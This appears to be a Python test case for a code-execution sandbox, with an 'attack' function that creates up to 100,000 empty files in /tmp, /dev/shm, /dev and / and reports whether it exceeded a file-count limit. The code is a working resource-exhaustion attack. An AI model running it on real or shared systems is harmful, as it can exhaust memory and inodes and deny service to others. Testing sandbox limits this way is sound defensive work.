"""Makes up to 100,000 empty files in each folder that it can write: they take memory but no space."""

import os

MOST = 10_000  # a sandbox's files; 4,000 of them in /dev/shm


def attack(world):
    made = {folder: make(folder) for folder in ("/tmp", "/dev/shm", "/dev", "/")}
    print(made)
    if sum(made.values()) > MOST:
        print("GOT", made, "files")


def make(folder):
    made = 0
    try:
        while made < 100_000:
            os.mknod(os.path.join(folder, f"file-{made}"))
            made += 1
    except OSError as error:
        print("stopped:", error)
    return made
